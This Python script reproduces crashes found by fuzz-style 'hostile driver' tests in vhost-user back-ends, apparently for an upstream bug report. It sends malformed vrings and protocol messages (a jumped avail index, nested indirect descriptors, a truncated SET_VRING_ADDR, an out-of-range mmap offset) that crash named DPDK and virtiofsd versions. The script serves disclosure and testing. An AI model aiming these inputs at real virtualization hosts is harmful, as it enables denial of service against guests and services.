"""Minimal reproductions of what the hostile-driver cases found in vhost-user back-ends, with
nothing but the Python standard library (for an upstream report):

    python3 tools/vhost_user_repro.py CASE [--vrings N] [--vring V] -- COMMAND...

COMMAND is the back-end's command line with ``{socket}`` where its socket path goes. The
script starts it, connects, negotiates VERSION_1 + INDIRECT_DESC + PROTOCOL_FEATURES (with
REPLY_ACK), shares 1 MiB of memfd memory at guest address 0, sets up vrings 0..N-1 (size 8),
writes CASE's bad ring on vring V, kicks it, hangs up after a second and prints how the
back-end ended. Cases:

* ``avail-jump`` -- one descriptor, avail.idx set 32768 ahead. DPDK 22.11
  (``dpdk-testpmd --no-huge -m 256 --no-pci -l 0,1 --vdev net_vhost0,iface={socket},queues=2
  -- --total-num-mbufs=2048 --forward-mode=io --rxq=2 --txq=2 --auto-start``,
  ``--vrings 4 --vring 1``): SIGSEGV in librte_vhost on the forwarding lcore.
* ``nested-indirect`` -- the head points at an indirect table whose only entry is itself
  INDIRECT. virtiofsd of QEMU 7.2 (``/usr/lib/qemu/virtiofsd --socket-path={socket}
  -o source=/tmp -o sandbox=chroot``, ``--vrings 2 --vring 1``): libvhost-user takes the
  inner entry for a 16-byte buffer and virtiofsd aborts (assertion in fv_queue_worker).
* ``short-request`` -- one readable descriptor of 16 bytes, a well-formed chain. virtiofsd of
  QEMU 7.2 aborts the same way: any request shorter than the 40-byte FUSE header does it.

Malformed front-end messages (the ``hostile.driver.protocol.*`` cases):

* ``truncated-payload`` -- right after SET_FEATURES, a SET_VRING_ADDR header announcing 40
  bytes and 20 of them, then a hang-up. virtiofsd of QEMU 7.2: SIGABRT, ``libvhost-user.c:338:
  vu_message_read_default: Assertion `rc == vmsg->size' failed``.
* ``base-never-started`` -- vring V is left out of the set-up; GET_VRING_BASE of V, then a
  hang-up. virtiofsd of QEMU 7.2 answers, then at the hang-up aborts: ``fuse_virtio.c:723:
  fv_queue_cleanup_thread: Assertion `qidx < vud->nqueues' failed``.
* ``offset-beyond-fd`` -- the only region's mmap_offset is 1 GiB, past the end of its 1 MiB
  memfd (the mapping succeeds; touching it raises SIGBUS); the vrings are set up in it and V
  is kicked.
"""

from __future__ import annotations

import argparse
import mmap
import os
import signal
import socket
import struct
import subprocess
import sys
import tempfile
import time
from typing import IO

HDR = struct.Struct("=III")
MEM = 1 << 20
USER = 0x7F00_0000_0000
RING = 0x1000  # vring i at RING + i * 0x1000: desc (128 B), avail (22 B), used at +0x800
TABLE = 0x40000


def msg(sock: socket.socket, req: int, payload: bytes = b"", fds: list[int] | None = None,
        reply: bool = False, ack: bool = False) -> bytes | None:
    data = HDR.pack(req, 1 | (8 if ack else 0), len(payload)) + payload
    if fds:
        socket.send_fds(sock, [data], fds)
    else:
        sock.sendall(data)
    if not (reply or ack):
        return None
    head = sock.recv(HDR.size, socket.MSG_WAITALL)
    if len(head) < HDR.size:
        raise EOFError(f"the back-end closed the connection at request {req}")
    _, _, size = HDR.unpack(head)
    return sock.recv(size, socket.MSG_WAITALL)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    ap.add_argument("case", choices=("avail-jump", "nested-indirect", "short-request",
                                     "truncated-payload", "base-never-started",
                                     "offset-beyond-fd"))
    ap.add_argument("--vrings", type=int, default=2)
    ap.add_argument("--vring", type=int, default=1)
    argv = sys.argv[1:]
    cut = argv.index("--") if "--" in argv else len(argv)
    args, command = ap.parse_args(argv[:cut]), argv[cut + 1:]
    if not any("{socket}" in a for a in command):
        ap.error("give the back-end's command line after --, with {socket} in it")
    tmp = tempfile.mkdtemp()
    path = os.path.join(tmp, "vhost.sock")
    log = open(os.path.join(tmp, "peer.log"), "w+b")  # noqa: SIM115 (a file: a pipe can fill)
    peer = subprocess.Popen([a.replace("{socket}", path) for a in command],
                            stdin=subprocess.PIPE, stdout=log, stderr=subprocess.STDOUT,
                            start_new_session=True)
    for _ in range(600):
        if os.path.exists(path):
            break
        time.sleep(0.05)
    for _ in range(200):
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        try:
            sock.connect(path)
            break
        except OSError:
            sock.close()
            time.sleep(0.05)
    else:
        log.seek(0)
        print(f"cannot connect to {path}; the back-end's output ends:",
              *log.read().decode(errors="replace").splitlines()[-5:], sep="\n", file=sys.stderr)
        return 2
    try:
        return run(args, peer, sock, log)
    except (EOFError, OSError) as err:
        print(err)
        return ended(args.case, peer, sock, log, 0.2)


def run(args: argparse.Namespace, peer: subprocess.Popen[bytes], sock: socket.socket,
        log: IO[bytes]) -> int:
    u64 = struct.Struct("=Q")
    offered = u64.unpack(msg(sock, 1, reply=True) or b"")[0]
    msg(sock, 15, reply=True)
    msg(sock, 16, u64.pack(1 << 3))  # REPLY_ACK
    msg(sock, 3, ack=True)
    msg(sock, 2, u64.pack(offered & (1 << 32 | 1 << 30 | 1 << 28)), ack=True)
    if args.case == "truncated-payload":
        sock.sendall(HDR.pack(9, 1 | 8, 40) + bytes(20))  # SET_VRING_ADDR, half its payload
        return ended(args.case, peer, sock, log, 0.2)
    fd = os.memfd_create("guest")
    os.ftruncate(fd, MEM)
    mem = mmap.mmap(fd, MEM)
    offset = 1 << 30 if args.case == "offset-beyond-fd" else 0
    table = struct.pack("=II4Q", 1, 0, 0, MEM, USER, offset)
    print(f"SET_MEM_TABLE acked {msg(sock, 5, table, [fd], ack=True)!r}")
    kicks = [-1] * args.vrings
    for i in range(args.vrings):
        if args.case == "base-never-started" and i == args.vring:
            continue
        desc = RING + i * 0x1000
        msg(sock, 8, struct.pack("=II", i, 8), ack=True)
        msg(sock, 10, struct.pack("=II", i, 0), ack=True)
        msg(sock, 9, struct.pack("=II4Q", i, 0, USER + desc, USER + desc + 0x800,
                                 USER + desc + 0x100, 0), ack=True)
        call, kick = os.eventfd(0), os.eventfd(0)
        kicks[i] = kick
        msg(sock, 13, u64.pack(i), [call], ack=True)
        msg(sock, 12, u64.pack(i), [kick], ack=True)
        msg(sock, 18, struct.pack("=II", i, 1), ack=True)
    desc = RING + args.vring * 0x1000
    avail = desc + 0x100
    if args.case == "base-never-started":
        base = msg(sock, 11, struct.pack("=II", args.vring, 0), reply=True)
        print(f"GET_VRING_BASE {args.vring}: {base!r}")
        return ended(args.case, peer, sock, log, 0.2)
    if args.case == "offset-beyond-fd":
        pass  # the back-end's mapping of the region is past the file: nothing to write
    elif args.case == "avail-jump":
        struct.pack_into("=QIHH", mem, desc, 0x80000, 64, 0, 0)
        struct.pack_into("=H", mem, avail + 2, 0x8000)
    elif args.case == "short-request":
        struct.pack_into("=QIHH", mem, desc, 0x80000, 16, 0, 0)  # one 16-byte readable buffer
        struct.pack_into("=H", mem, avail + 2, 1)
    else:
        struct.pack_into("=QIHH", mem, desc, TABLE, 16, 4, 0)  # head: INDIRECT, one entry
        struct.pack_into("=QIHH", mem, TABLE, TABLE + 0x100, 16, 4, 0)  # entry: INDIRECT
        struct.pack_into("=H", mem, avail + 2, 1)
    os.write(kicks[args.vring], u64.pack(1))
    return ended(args.case, peer, sock, log, 1.0)


def ended(case: str, peer: subprocess.Popen[bytes], sock: socket.socket, log: IO[bytes],
          wait: float) -> int:
    """Hang up after ``wait`` seconds and print how the back-end ended."""
    time.sleep(wait)
    sock.close()
    try:
        status = peer.wait(2.0)
    except subprocess.TimeoutExpired:
        os.killpg(peer.pid, signal.SIGTERM)
        peer.wait(5)
        print(f"{case}: the back-end survived")
        return 0
    how = f"signal {signal.Signals(-status).name}" if status < 0 else f"exit status {status}"
    log.seek(0)
    lines = int(os.environ.get("REPRO_TAIL", "4"))  # more: a debugger's backtrace
    tail = log.read().decode(errors="replace").strip().splitlines()[-lines:]
    print(f"{case}: the back-end ended with {how}; its output ends:", *tail, sep="\n")
    return 1


if __name__ == "__main__":
    sys.exit(main())
